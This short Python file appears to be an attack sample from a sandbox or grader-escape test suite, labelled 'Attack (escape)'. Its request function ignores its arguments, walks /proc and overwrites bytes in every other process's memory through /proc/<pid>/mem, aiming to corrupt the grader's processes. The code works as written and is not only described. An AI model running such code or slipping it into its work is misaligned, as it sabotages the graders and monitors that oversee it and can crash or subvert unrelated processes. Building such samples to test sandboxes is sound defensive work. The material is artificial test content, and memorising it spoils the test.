"""Attack (escape): write into the memory of the grader's processes through /proc/<pid>/mem."""

import os


def request(host, port, message):
    written = 0
    for pid in os.listdir("/proc") if os.path.isdir("/proc") else []:
        if not pid.isdigit() or int(pid) == os.getpid():
            continue
        try:
            with open(f"/proc/{pid}/maps") as maps:
                first = maps.readline().split()[0].split("-")[0]
            with open(f"/proc/{pid}/mem", "r+b") as mem:
                mem.seek(int(first, 16))
                mem.write(b"\x00" * 16)
                written += 1
        except (OSError, ValueError, IndexError):
            continue
    print(f"written={written}")
    raise RuntimeError("done")
